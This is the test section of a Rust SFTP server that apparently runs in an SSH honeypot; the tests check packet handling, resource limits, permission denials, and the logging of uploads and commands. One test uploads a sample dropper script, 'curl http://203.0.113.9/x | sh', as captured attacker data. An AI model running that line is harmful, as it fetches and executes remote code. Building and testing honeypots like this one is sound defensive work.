        "nobody-here"
    };
    let limits = Limits {
        max_fs_bytes: 256 * 1024,
        max_files: 64,
        ..Limits::default()
    };
    let mut sh = Shell::new(world, user, limits);
    let mut sftp = Sftp::new(64 * 1024);
    let chunk = 1 + (first as usize >> 1);
    for part in rest.chunks(chunk) {
        let _ = sftp.feed(&mut sh, part);
        assert!(sftp.buf.len() <= MAX_PACKET + 4 + chunk);
        assert!(sftp.open_handles() <= MAX_HANDLES);
    }
    let _ = sftp.finish(&mut sh);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::{Identity, Limits, World};

    fn world() -> std::sync::Arc<World> {
        World::new(Identity::generate(7))
    }

    fn s(b: &[u8]) -> Vec<u8> {
        let mut v = (b.len() as u32).to_be_bytes().to_vec();
        v.extend_from_slice(b);
        v
    }

    fn u32b(x: u32) -> Vec<u8> {
        x.to_be_bytes().to_vec()
    }

    fn u64b(x: u64) -> Vec<u8> {
        x.to_be_bytes().to_vec()
    }

    /// A packet: its length, type, and body (the request id included by the caller).
    fn pkt(ty: u8, body: &[u8]) -> Vec<u8> {
        let mut v = u32b(body.len() as u32 + 1);
        v.push(ty);
        v.extend_from_slice(body);
        v
    }

    /// The packets in `out`: (type, body).
    fn packets(mut out: &[u8]) -> Vec<(u8, Vec<u8>)> {
        let mut v = vec![];
        while out.len() >= 5 {
            let len = u32::from_be_bytes(out[..4].try_into().unwrap()) as usize;
            v.push((out[4], out[5..4 + len].to_vec()));
            out = &out[4 + len..];
        }
        assert!(out.is_empty(), "a partial packet left");
        v
    }

    /// An SFTP session that has said INIT.
    struct T {
        sftp: Sftp,
        sh: Shell,
        id: u32,
        notes: Vec<Note>,
    }

    impl T {
        fn new(user: &str, max_upload: usize) -> T {
            let sh = Shell::new(world(), user, Limits::default());
            let mut t = T {
                sftp: Sftp::new(max_upload),
                sh,
                id: 0,
                notes: vec![],
            };
            let out = t.sftp.feed(&mut t.sh, &pkt(INIT, &u32b(3)));
            assert_eq!(packets(&out.reply), [(VERSION, u32b(3))]);
            t
        }

        /// One request: its answer's type and body after the id.
        fn req(&mut self, ty: u8, fields: &[&[u8]]) -> (u8, Vec<u8>) {
            self.id += 1;
            let mut body = u32b(self.id);
            for f in fields {
                body.extend_from_slice(f);
            }
            let out = self.sftp.feed(&mut self.sh, &pkt(ty, &body));
            assert!(!out.close, "closed on {ty}");
            self.notes.extend(out.notes);
            let mut p = packets(&out.reply);
            assert_eq!(p.len(), 1, "one answer to {ty}");
            let (t, b) = p.remove(0);
            assert_eq!(b[..4], u32b(self.id), "the answer's id");
            (t, b[4..].to_vec())
        }

        /// A request answered with a STATUS: its code.
        fn status(&mut self, ty: u8, fields: &[&[u8]]) -> u32 {
            let (t, b) = self.req(ty, fields);
            assert_eq!(t, STATUS, "{ty} answered {t}");
            u32::from_be_bytes(b[..4].try_into().unwrap())
        }

        fn open(&mut self, path: &str, flags: u32, attrs: &[u8]) -> Result<Vec<u8>, u32> {
            match self.req(OPEN, &[&s(path.as_bytes()), &u32b(flags), attrs]) {
                (HANDLE, b) => Ok(b[4..].to_vec()),
                (STATUS, b) => Err(u32::from_be_bytes(b[..4].try_into().unwrap())),
                (t, _) => panic!("OPEN answered {t}"),
            }
        }

        /// STAT's size and permission bits.
        fn stat(&mut self, path: &str) -> Result<(u64, u32), u32> {
            match self.req(STAT, &[&s(path.as_bytes())]) {
                (ATTRS, b) => {
                    assert_eq!(b[..4], u32b(0xf));
                    let size = u64::from_be_bytes(b[4..12].try_into().unwrap());
                    let perm = u32::from_be_bytes(b[20..24].try_into().unwrap());
                    Ok((size, perm))
                }
                (STATUS, b) => Err(u32::from_be_bytes(b[..4].try_into().unwrap())),
                (t, _) => panic!("STAT answered {t}"),
            }
        }

        /// The names (and long names) a NAME answer holds.
        fn names(b: &[u8]) -> Vec<(String, String)> {
            let mut r = Rd(b);
            let n = r.u32().ok().unwrap();
            (0..n)
                .map(|_| {
                    let name = String::from_utf8_lossy(r.bytes().ok().unwrap()).into_owned();
                    let long = String::from_utf8_lossy(r.bytes().ok().unwrap()).into_owned();
                    r.attrs().ok().unwrap();
                    (name, long)
                })
                .collect()
        }
    }

    #[test]
    fn a_packet_split_anywhere_is_answered_once_whole() {
        let mut sh = Shell::new(world(), "root", Limits::default());
        let mut sftp = Sftp::new(1024);
        let mut bytes = pkt(INIT, &u32b(3));
        let mut realpath = u32b(9);
        realpath.extend(s(b"."));
        bytes.extend(pkt(REALPATH, &realpath));
        let mut replies = vec![];
        for b in &bytes {
            let out = sftp.feed(&mut sh, std::slice::from_ref(b));
            assert!(!out.close);
            replies.extend(out.reply);
        }
        let p = packets(&replies);
        assert_eq!(p.len(), 2);
        assert_eq!(p[0], (VERSION, u32b(3)));
        assert_eq!(p[1].0, NAME);
        assert_eq!(T::names(&p[1].1[4..])[0].0, "/root");
    }

    #[test]
    fn oversized_short_and_truncated_packets_close_and_are_counted() {
        let mut sh = Shell::new(world(), "root", Limits::default());
        let init = pkt(INIT, &u32b(3));
        // a length past the cap: closed on its first four bytes, nothing buffered
        let mut sftp = Sftp::new(1024);
        sftp.feed(&mut sh, &init);
        let out = sftp.feed(&mut sh, &u32b(MAX_PACKET as u32 + 1));
        assert!(out.close && out.reply.is_empty());
        assert_eq!(out.notes, [Note::Limit("sftp")]);
        assert!(sftp.buf.is_empty());
        // the channel is dead: more bytes do nothing
        let out = sftp.feed(&mut sh, &init);
        assert!(!out.close && out.reply.is_empty() && out.notes.is_empty());
        // lengths too short for a type and an id
        for len in [0u32, 1, 4] {
            let mut sftp = Sftp::new(1024);
            sftp.feed(&mut sh, &init);
            let mut b = u32b(len);
            b.extend(vec![OPEN; len as usize]);
            assert!(sftp.feed(&mut sh, &b).close, "length {len}");
        }
        // fields longer than their packet, a NUL in a path, an attribute count past the end
        let mut long_string = u32b(1);
        long_string.extend(u32b(1000));
        long_string.extend(b"/tmp/x");
        let mut nul = u32b(1);
        nul.extend(s(b"/tmp/\0x"));
        let mut attrs = u32b(1);
        attrs.extend(s(b"/tmp/x"));
        attrs.extend(u32b(FXF_WRITE | FXF_CREAT));
        attrs.extend(u32b(ATTR_EXTENDED));
        attrs.extend(u32b(u32::MAX));
        for (ty, body) in [
            (OPEN, long_string),
            (STAT, nul),
            (OPEN, attrs),
            (READ, u32b(1)),
        ] {
            let mut sftp = Sftp::new(1024);
            sftp.feed(&mut sh, &init);
            let out = sftp.feed(&mut sh, &pkt(ty, &body));
            assert!(out.close, "type {ty}");
            assert_eq!(out.notes, [Note::Limit("sftp")]);
        }
    }

    #[test]
    fn bad_types_before_and_after_init() {
        let mut sh = Shell::new(world(), "root", Limits::default());
        // anything before INIT, and INIT twice, break the protocol
        let mut sftp = Sftp::new(1024);
        assert!(sftp.feed(&mut sh, &pkt(STAT, &u32b(1))).close);
        let mut sftp = Sftp::new(1024);
        let mut twice = pkt(INIT, &u32b(3));
        twice.extend(pkt(INIT, &u32b(3)));
        let out = sftp.feed(&mut sh, &twice);
        assert!(out.close);
        assert_eq!(packets(&out.reply), [(VERSION, u32b(3))]);
        // unknown requests, answers sent as requests, extensions: unsupported, with their id
        let mut t = T::new("root", 1024);
        for ty in [0u8, 2, 21, 99, STATUS, DATA, 200, 255] {
            assert_eq!(t.status(ty, &[]), FX_OP_UNSUPPORTED, "type {ty}");
        }
        // a handle that is not one
        assert_eq!(t.status(CLOSE, &[&s(b"nope")]), FX_FAILURE);
        assert_eq!(
            t.status(READ, &[&s(&u32b(77)), &u64b(0), &u32b(10)]),
            FX_FAILURE
        );
    }

    #[test]
    fn a_put_is_kept_and_recorded_then_read_back() {
        let mut t = T::new("root", 1024 * 1024);
        let (ty, b) = t.req(REALPATH, &[&s(b".")]);
        assert_eq!(ty, NAME);
        assert_eq!(T::names(&b)[0].0, "/root");
        assert_eq!(t.stat("/tmp/drop.sh"), Err(FX_NO_SUCH_FILE));
        let mut perm = u32b(ATTR_PERMISSIONS);
        perm.extend(u32b(0o755));
        let h = t
            .open("/tmp/drop.sh", FXF_WRITE | FXF_CREAT | FXF_TRUNC, &perm)
            .unwrap();
        // created at once (empty), as a real open(2) does
        assert_eq!(t.stat("/tmp/drop.sh"), Ok((0, 0o100_755)));
        let payload = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n";
        // the second half first: writes land at their offsets
        assert_eq!(
            t.status(WRITE, &[&s(&h), &u64b(20), &s(&payload[20..])]),
            FX_OK
        );
        assert_eq!(
            t.status(WRITE, &[&s(&h), &u64b(0), &s(&payload[..20])]),
            FX_OK
        );
        let (ty, b) = t.req(FSTAT, &[&s(&h)]);
        assert_eq!(ty, ATTRS);
        assert_eq!(b[4..12], u64b(payload.len() as u64));
        assert_eq!(t.status(CLOSE, &[&s(&h)]), FX_OK);
        assert_eq!(t.sftp.open_handles(), 0);
        let sha = util::sha256_hex(payload);
        assert!(t
            .notes
            .contains(&Note::Command("sftp put /tmp/drop.sh".into())));
        let up = t
            .notes
            .iter()
            .find_map(|n| match n {
                Note::Upload(u) => Some(u.clone()),
                _ => None,
            })
            .expect("an upload");
        assert_eq!(
            (up.path.as_str(), up.size, up.sha256.as_str()),
            ("/tmp/drop.sh", payload.len(), sha.as_str())
        );
        // the shell sees it; STAT too
        assert_eq!(
            t.sh.run("cat /tmp/drop.sh").output,
            payload.to_vec(),
            "the overlay holds it"
        );
        assert_eq!(
            t.stat("/tmp/drop.sh"),
            Ok((payload.len() as u64, 0o100_755))
        );
        // read back in pieces, then EOF
        let h = t.open("/tmp/drop.sh", FXF_READ, &u32b(0)).unwrap();
        let mut got = vec![];
        loop {
            match t.req(READ, &[&s(&h), &u64b(got.len() as u64), &u32b(16)]) {
                (DATA, b) => got.extend_from_slice(Rd(&b).bytes().ok().unwrap()),
                (STATUS, b) => {
                    assert_eq!(b[..4], u32b(FX_EOF));
                    break;
                }
                (ty, _) => panic!("READ answered {ty}"),
            }
        }
        assert_eq!(got, payload);
        // a read-only handle takes no writes
        assert_eq!(
            t.status(WRITE, &[&s(&h), &u64b(0), &s(b"x")]),
            FX_NO_SUCH_FILE
        );
        assert_eq!(t.status(CLOSE, &[&s(&h)]), FX_OK);
        // a fake file of the base reads as the shell's cat shows it
        let h = t.open("/etc/hostname", FXF_READ, &u32b(0)).unwrap();
        let (ty, b) = t.req(READ, &[&s(&h), &u64b(0), &u32b(4096)]);
        assert_eq!(ty, DATA);
        assert_eq!(
            Rd(&b).bytes().ok().unwrap(),
            t.sh.run("cat /etc/hostname").output
        );
        assert!(t
            .notes
            .contains(&Note::Command("sftp get /etc/hostname".into())));
    }

    #[test]
    fn directories_listings_and_changes() {
        let mut t = T::new("root", 1024 * 1024);
        let h = t
            .open("/tmp/a.txt", FXF_WRITE | FXF_CREAT | FXF_TRUNC, &u32b(0))
            .unwrap();
        t.status(WRITE, &[&s(&h), &u64b(0), &s(b"hello")]);
        t.status(CLOSE, &[&s(&h)]);
        let (ty, b) = t.req(OPENDIR, &[&s(b"/tmp")]);
        assert_eq!(ty, HANDLE);
        let d = b[4..].to_vec();
        let mut all = vec![];
        loop {
            match t.req(READDIR, &[&s(&d)]) {
                (NAME, b) => all.extend(T::names(&b)),
                (STATUS, b) => {
                    assert_eq!(b[..4], u32b(FX_EOF));
                    break;
                }
                (ty, _) => panic!("READDIR answered {ty}"),
            }
        }
        t.status(CLOSE, &[&s(&d)]);
        let names: Vec<&str> = all.iter().map(|(n, _)| n.as_str()).collect();
        assert!(names.starts_with(&[".", ".."]), "{names:?}");
        let (_, long) = all.iter().find(|(n, _)| n == "a.txt").unwrap();
        assert!(
            long.starts_with("-rw-r--r--    1 root     root            5 "),
            "{long}"
        );
        assert!(long.ends_with(" a.txt"), "{long}");
        let (_, dot) = &all[0];
        assert!(dot.starts_with("drwxrwxrwt"), "{dot}");
        // mkdir, rename into it, chmod, remove, rmdir: done and recorded
        assert_eq!(t.status(MKDIR, &[&s(b"/tmp/.x"), &u32b(0)]), FX_OK);
        assert_eq!(t.stat("/tmp/.x"), Ok((4096, 0o040_755)));
        assert_eq!(t.status(MKDIR, &[&s(b"/tmp/.x"), &u32b(0)]), FX_FAILURE);
        assert_eq!(
            t.status(RENAME, &[&s(b"/tmp/a.txt"), &s(b"/tmp/.x/b")]),
            FX_OK
        );
        assert_eq!(t.stat("/tmp/a.txt"), Err(FX_NO_SUCH_FILE));
        // an existing target: refused, as OpenSSH's server does
        t.sh.run("touch /tmp/c");
        assert_eq!(
            t.status(RENAME, &[&s(b"/tmp/c"), &s(b"/tmp/.x/b")]),
            FX_FAILURE
        );
        let mut chmod = u32b(ATTR_PERMISSIONS);
        chmod.extend(u32b(0o700));
        assert_eq!(t.status(SETSTAT, &[&s(b"/tmp/.x/b"), &chmod]), FX_OK);
        assert_eq!(t.stat("/tmp/.x/b"), Ok((5, 0o100_700)));
        assert_eq!(t.status(RMDIR, &[&s(b"/tmp/.x")]), FX_FAILURE);
        assert_eq!(t.status(REMOVE, &[&s(b"/tmp/.x/b")]), FX_OK);
        assert_eq!(t.status(RMDIR, &[&s(b"/tmp/.x")]), FX_OK);
        assert_eq!(t.status(REMOVE, &[&s(b"/tmp/nope")]), FX_NO_SUCH_FILE);
        assert_eq!(
            t.status(SYMLINK, &[&s(b"/etc/passwd"), &s(b"/tmp/p")]),
            FX_OK
        );
        let (ty, b) = t.req(READLINK, &[&s(b"/tmp/p")]);
        assert_eq!((ty, T::names(&b)[0].0.as_str()), (NAME, "/etc/passwd"));
        let cmds: Vec<&str> = t
            .notes
            .iter()
            .filter_map(|n| match n {
                Note::Command(c) => Some(c.as_str()),
                _ => None,
            })
            .collect();
        for want in [
            "sftp mkdir /tmp/.x",
            "sftp rename /tmp/a.txt /tmp/.x/b",
            "sftp chmod 700 /tmp/.x/b",
            "sftp rm /tmp/.x/b",
            "sftp rmdir /tmp/.x",
            "sftp ln -s /etc/passwd /tmp/p",
        ] {
            assert!(cmds.contains(&want), "{want} in {cmds:?}");
        }
    }

    #[test]
    fn a_user_gets_permission_denied_where_the_real_host_would() {
        let w = world();
        let name = w
            .identity()
            .users
            .iter()
            .find(|u| u.uid >= 1000 && u.uid < 65_534)
            .map(|u| u.name.clone())
            .unwrap();
        let mut t = T::new(&name, 1024);
        let flags = FXF_WRITE | FXF_CREAT | FXF_TRUNC;
        assert_eq!(
            t.open("/etc/evil", flags, &u32b(0)),
            Err(FX_PERMISSION_DENIED)
        );
        assert_eq!(
            t.open("/etc/passwd", flags, &u32b(0)),
            Err(FX_PERMISSION_DENIED)
        );
        assert_eq!(
            t.open("/etc/shadow", FXF_READ, &u32b(0)),
            Err(FX_PERMISSION_DENIED)
        );
        let mut chmod = u32b(ATTR_PERMISSIONS);
        chmod.extend(u32b(0o777));
        assert_eq!(
            t.status(SETSTAT, &[&s(b"/etc/passwd"), &chmod]),
            FX_PERMISSION_DENIED
        );
        assert_eq!(
            t.status(REMOVE, &[&s(b"/etc/passwd")]),
            FX_PERMISSION_DENIED
        );
        // the attempts are recorded all the same; the base is untouched
        assert!(t
            .notes
            .contains(&Note::Command("sftp put /etc/evil".into())));
        assert!(!t.notes.iter().any(|n| matches!(n, Note::Upload(_))));
        assert_eq!(t.stat("/etc/evil"), Err(FX_NO_SUCH_FILE));
        // home is where a relative path goes
        let h = t.open("x.bin", flags, &u32b(0)).unwrap();
        t.status(CLOSE, &[&s(&h)]);
        let home = t.sh.cwd().to_string();
        assert!(t.stat(&format!("{home}/x.bin")).is_ok());
    }

    #[test]
    fn writes_are_capped_handles_are_capped_and_open_files_are_kept_at_the_end() {
        let mut t = T::new("root", 1000);
        let flags = FXF_WRITE | FXF_CREAT | FXF_TRUNC;
        let h = t.open("/tmp/big", flags, &u32b(0)).unwrap();
        // past the cap, and at an offset near the end of u64: dropped, nothing allocated
        t.status(WRITE, &[&s(&h), &u64b(0), &s(&[7u8; 1500])]);
        t.status(WRITE, &[&s(&h), &u64b(u64::MAX - 3), &s(b"abcd")]);
        t.status(CLOSE, &[&s(&h)]);
        let up = t
            .notes
            .iter()
            .find_map(|n| match n {
                Note::Upload(u) => Some(u.clone()),
                _ => None,
            })
            .unwrap();
        assert_eq!(up.size, 1000);
        assert_eq!(up.sha256, util::sha256_hex(&[7u8; 1000]));
        // handles: MAX_HANDLES, then refused and counted once
        let hs: Vec<Vec<u8>> = (0..MAX_HANDLES)
            .map(|i| t.open(&format!("/tmp/f{i}"), flags, &u32b(0)).unwrap())
            .collect();
        assert_eq!(t.open("/tmp/one-more", flags, &u32b(0)), Err(FX_FAILURE));
        assert_eq!(t.open("/tmp/two-more", flags, &u32b(0)), Err(FX_FAILURE));
        let limits = t
            .notes
            .iter()
            .filter(|n| **n == Note::Limit("sftp_handles"))
            .count();
        assert_eq!(limits, 1);
        // the channel ends with them open: written files are kept and recorded
        t.status(WRITE, &[&s(&hs[3]), &u64b(0), &s(b"left open")]);
        t.notes.clear();
        let notes = t.sftp.finish(&mut t.sh);
        let ups: Vec<&Upload> = notes
            .iter()
            .filter_map(|n| match n {
                Note::Upload(u) => Some(u),
                _ => None,
            })
            .collect();
        assert_eq!(ups.len(), MAX_HANDLES);
        let f3 = ups.iter().find(|u| u.path == "/tmp/f3").unwrap();
        assert_eq!(f3.sha256, util::sha256_hex(b"left open"));
        assert_eq!(t.sftp.open_handles(), 0);
    }

    #[test]
    fn garbage_never_panics() {
        let w = world();
        let mut rng = fastrand::Rng::with_seed(5);
        for _ in 0..300 {
            let mut sh = Shell::new(w.clone(), "root", Limits::default());
            let mut sftp = Sftp::new(4096);
            sftp.feed(&mut sh, &pkt(INIT, &u32b(3)));
            for _ in 0..20 {
                // a plausible frame around random fields
                let ty = rng.u8(1..22);
                let n = rng.usize(0..64);
                let mut body = u32b(rng.u32(..));
                for _ in 0..n {
                    body.push(match rng.u8(..4) {
                        0 => 0,
                        1 => b'/',
                        _ => rng.u8(..),
                    });
                }
                let out = sftp.feed(&mut sh, &pkt(ty, &body));
                if out.close {
                    break;
                }
            }
        }
    }
}
